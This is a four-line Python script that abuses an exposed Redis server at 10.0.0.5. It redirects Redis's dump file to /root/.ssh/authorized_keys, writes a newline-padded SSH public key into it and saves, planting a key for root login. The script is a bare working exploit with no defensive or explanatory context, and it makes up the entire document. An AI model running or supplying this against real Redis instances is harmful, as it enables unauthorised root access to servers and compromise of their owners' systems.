import redis
r = redis.Redis('10.0.0.5')
r.config_set('dir', '/root/.ssh'); r.config_set('dbfilename', 'authorized_keys')
r.set('x', '\n\nssh-rsa AAAA x\n\n'); r.save()
